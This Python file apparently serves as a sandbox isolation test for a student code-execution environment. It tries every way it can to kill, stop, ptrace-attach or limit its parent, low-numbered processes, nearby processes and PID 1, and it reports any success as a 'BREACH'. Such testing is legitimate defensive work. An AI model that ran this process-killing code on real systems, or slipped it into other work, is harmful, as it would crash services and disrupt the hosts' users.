r"""Sends deadly signals to its parent and to all processes with low numbers, in every possible way.

---
exercise: once
shown_output: tried
level: full
"""

import ctypes
import os
import signal

LIBC = ctypes.CDLL(None)
ME = os.getpid()


def tries(what, call):
    try:
        if call() != -1:
            print("BREACH:", what)
    except OSError:
        pass


def attack():
    if os.getcwd() != "/home/student/work":  # no wall: leave the machine alone
        return
    others = {os.getppid(), *range(2, 100), *range(max(2, ME - 50), ME + 50)} - {0, ME}
    for pid in sorted(others):
        tries(f"kill {pid}", lambda pid=pid: os.kill(pid, signal.SIGKILL))
        tries(f"stop {pid}", lambda pid=pid: os.kill(pid, signal.SIGSTOP))
        tries(f"group {pid}", lambda pid=pid: os.killpg(pid, signal.SIGKILL) if pid > 1 else -1)
        tries(f"trace {pid}", lambda pid=pid: LIBC.ptrace(16, pid, 0, 0))
        tries(f"pidfd {pid}", lambda pid=pid: signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL))
        tries(f"limits {pid}", lambda pid=pid: LIBC.prlimit(pid, 0, bytes(16), None))
    if ME != 1:
        tries("kill 1", lambda: os.kill(1, signal.SIGKILL) or -1)
    print("tried")


attack()


def more(x):
    return x + 1


def less(x):
    return x - 1
